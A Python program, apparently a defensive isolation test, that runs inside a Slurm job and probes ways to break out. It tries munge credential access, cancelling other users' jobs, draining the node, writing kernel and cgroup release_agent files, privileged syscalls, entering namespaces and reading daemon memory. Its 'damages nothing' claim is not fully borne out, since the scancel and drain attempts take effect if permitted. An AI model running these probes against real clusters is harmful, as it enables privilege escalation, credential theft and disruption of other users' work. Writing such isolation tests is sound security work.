"""A hostile program on a Slurm node: it tries the attacks specific to such nodes, damages nothing, and
reports the results. `attacker.py` contains the general attacks.

It uses only the standard library. The variable TARGET contains its targets as JSON. It prints `VERDICTS` and
a JSON object: for each attempt the data obtained, or "".
"""

import contextlib
import ctypes
import glob
import json
import os
import re
import socket
import ssl
import stat
import subprocess

TARGET = json.loads(os.environ["TARGET"])
HOME = os.environ["HOME"]
libc = ctypes.CDLL(None, use_errno=True)

NEWNS, NEWUSER, NEWCGROUP = 0x20000, 0x10000000, 0x2000000


def in_child(attempt):
    """Run an attempt that changes its process; return the result."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        with contextlib.suppress(BaseException):
            os.write(writer, str(attempt() or "").encode()[:500])
        os._exit(0)
    os.close(writer)
    with open(reader, "rb") as pipe:
        result = pipe.read().decode("utf-8", "replace")
    os.waitpid(child, 0)
    return result


def first(attempt, candidates):
    """Return the first successful result of an attempt over candidates."""
    for candidate in candidates:
        with contextlib.suppress(OSError, ValueError):
            if result := attempt(candidate):
                return f"{candidate}: {result}"
    return ""


def try_to_connect(path):
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as connection:
            connection.settimeout(5)
            connection.connect(path)
            return "connected"
    return ""


def read(path):
    if os.path.isdir(path):
        return ", ".join(os.listdir(path)[:3])
    if stat.S_ISSOCK(os.stat(path).st_mode):
        return try_to_connect(path)
    with open(path, "rb") as file:
        return file.read(64)


def can_write(path):
    os.close(os.open(path, os.O_WRONLY))
    return "opened for writing"


def run_command(command):
    done = subprocess.run(command, capture_output=True, timeout=20, check=False, stdin=subprocess.DEVNULL)
    return done.returncode == 0 and (done.stdout.strip()[:60] or b"done")


# --- Slurm ---


def munge():
    result = first(read, ["/run/munge", "/var/run/munge/munge.socket.2", TARGET["munge_key"]])
    return result or first(run_command, [["munge", "-n"]])


def commands():
    """Commands that call slurmctld, or the node's own slurmd."""
    number, name = TARGET["others_allocation"]
    command_lines = [
        ["squeue", "-h"],
        ["scontrol", "show", "job", number],
        ["scancel", number],
        ["scancel", f"--name={name}"],
        ["srun", f"--jobid={number}", "--overlap", "-N1", "-n1", "id"],
        ["sbatch", "--wrap=id"],
        ["salloc", "--no-shell", "-N1"],
        ["scontrol", "update", f"nodename={TARGET['node']}", "state=drain", "reason=x"],
    ]
    return first(run_command, command_lines)


def daemons():
    """Call slurmctld or slurmd without a munge credential."""

    def heard(place):
        host, port = place
        with socket.create_connection((host, port), timeout=5) as connection:
            # The length is in the first four bytes: an unsigned message.
            connection.sendall((64).to_bytes(4, "big") + bytes(64))
            connection.settimeout(5)
            answer = connection.recv(4096)
            return len(answer) > 64 and answer.hex()[:40]

    return first(heard, [tuple(place) for place in TARGET["daemons"]])


def ports():
    def connect(place):
        with socket.create_connection(tuple(place), timeout=5):
            return "connected"

    return first(connect, TARGET["daemons"])


def steps():
    """Use the sockets by which users control their steps, and slurmd's files about them."""
    return first(try_to_connect, TARGET["step_sockets"]) or first(read, TARGET["spool_files"])


def call_step_socket():
    """Call a step's socket like Slurm's commands on the node."""
    # By name: here the node has its replica's name.
    ask = ["scontrol", "listpids", TARGET["others_allocation"][0], TARGET["node"]]
    return first(run_command, [ask])


# --- the agent and the shims ---


def own_agent():
    """Access the directory of the replica's own agent, which contains its home."""
    below = os.path.relpath(HOME, TARGET["agents"])
    return os.path.join(TARGET["agents"], below.split("/")[0])


def agent_files():
    own = [own_agent() + name for name in ("/sockets", "/interception.pem", "/trust.pem", "/logs")]
    return first(read, [*TARGET["agent_files"], *own])


def agent_sockets():
    own = [f"{own_agent()}/sockets/{name}" for name in ("buckets", "rest", "grpc")]
    return first(try_to_connect, [*TARGET["agent_sockets"], *own])


def abstract_sockets():
    """Access abstract sockets of agents and shims."""
    with open("/proc/net/unix") as file:
        names = [line.split()[-1] for line in file if " @" in line]
    ours = [name for name in names if re.search("trainshed|ts-|shim|agent", name)]
    return first(lambda name: try_to_connect("\0" + name[1:]), ours)


def as_agent():
    """Connect to the service as its agent, without a certificate or with a forged one."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE

    def heard(place):
        with (
            socket.create_connection(tuple(place), timeout=5) as plain,
            context.wrap_socket(plain) as channel,
        ):
            channel.settimeout(5)
            channel.sendall(b"\x00" * 64 + b"\n")
            return channel.recv(1)

    return first(heard, [TARGET["hub"]])


# --- the node ---


def kernel():
    """Change kernel settings of the node, and run code as its root."""
    places = [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/vm/drop_caches",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
        "/dev/kmsg",
        "/dev/mem",
        "/dev/fuse",
        "/dev/kvm",
        *glob.glob("/sys/kernel/debug/*")[:3],
        *glob.glob("/sys/fs/cgroup/*/release_agent"),
    ]
    return first(can_write, places) or first(call, sorted(CALLS))


CALLS = {
    "init_module": (175, b"", 0, b""),
    "kexec_load": (246, 0, 0, None, 0xF000),
    "reboot": (169, 0, 0, 0, None),
    "swapon": (167, b"/nowhere", 0),
}
"""System call numbers of x86-64, with arguments that have no effect if the call is permitted."""


def call(name):
    """EINVAL, ENOENT and similar errors come after the permission check."""
    if os.uname().machine != "x86_64":
        return ""
    if libc.syscall(*CALLS[name]) >= 0:
        return "done"
    code = ctypes.get_errno()
    return "" if code in (1, 13, 38) else os.strerror(code)


def groups():
    """Leave the cgroup of its replica, agent or allocation, or create one."""
    with open("/proc/self/cgroup") as file:
        paths = [line.strip().split(":", 2)[1:] for line in file]
    places = [
        f"/sys/fs/cgroup/{name}{above}/cgroup.procs"
        for name, path in paths
        for above in ("", path, os.path.dirname(path), "/slurm")
    ]

    def write_zero(place):
        with open(place, "w") as file:
            file.write("0")
        return "moved"

    def mount_groups():
        own = os.path.join(HOME, "work", "groups")
        os.makedirs(own, exist_ok=True)
        for flags in (0, NEWUSER | NEWNS | NEWCGROUP):
            if flags and libc.unshare(flags):
                continue
            for kind, options in ((b"cgroup", b"memory"), (b"cgroup2", None)):
                if libc.mount(b"none", own.encode(), kind, 0, options) == 0:
                    names = ("release_agent", "tasks", "cgroup.procs", "memory.limit_in_bytes")
                    if result := first(can_write, [f"{own}/{name}" for name in names]):
                        return result
        return ""

    return first(lambda place: in_child(lambda: write_zero(place)), places) or in_child(mount_groups)


def wire():
    """Read other hosts' traffic, or send as another machine."""

    def open_packet_socket():
        for flags in (0, NEWUSER):
            if flags and libc.unshare(flags):
                continue
            with contextlib.suppress(OSError), socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 8):
                return "a packet socket"
            with (
                contextlib.suppress(OSError),
                socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
            ):
                return "a raw socket"
        return ""

    return in_child(open_packet_socket)


def namespaces():
    """Enter namespaces of the node's own processes."""

    def enter_namespace(path):
        kind = os.open(path, os.O_RDONLY)
        return libc.setns(kind, 0) == 0 and "entered"

    kinds = ("mnt", "net", "pid", "user", "uts", "ipc")
    places = [f"/proc/{pid}/ns/{kind}" for pid in TARGET["daemon_pids"] for kind in kinds]
    own = [place for place in places if not is_ours(place)]
    return in_child(lambda: first(enter_namespace, own))


def is_ours(place):
    with contextlib.suppress(OSError):
        return os.readlink(place) == os.readlink(f"/proc/self/ns/{place.rpartition('/')[2]}")
    return True


def daemon_memory():
    """Read files of slurmd, munged and the agent."""
    kinds = ("environ", "mem", "fd/0", "maps")
    paths = [f"/proc/{pid}/{kind}" for pid in TARGET["daemon_pids"] for kind in kinds]
    return first(lambda path: is_theirs(path) and read(path)[:9], paths)


def is_theirs(path):
    """By process name: a process ID here may belong to another process."""
    with open(f"/proc/{path.split('/')[2]}/comm") as file:
        return file.read().strip() in TARGET["daemon_names"]


ATTEMPTS = {
    "munge": munge,
    "Slurm's commands": commands,
    "Slurm's ports": ports,
    "unsigned messages": daemons,
    "steps": steps,
    "steps, asked": call_step_socket,
    "agent's files": agent_files,
    "agent's sockets": agent_sockets,
    "agent's abstract sockets": abstract_sockets,
    "as its agent": as_agent,
    "kernel": kernel,
    "control groups": groups,
    "wire": wire,
    "namespaces": namespaces,
    "daemons' memory": daemon_memory,
}


def main():
    results, why = {}, {}
    for name, attempt in ATTEMPTS.items():
        try:
            results[name] = str(attempt() or "")
        except (OSError, subprocess.SubprocessError) as error:
            results[name], why[name] = "", str(error)
    print("WHY " + json.dumps(why))
    print("VERDICTS " + json.dumps(results), flush=True)


main()
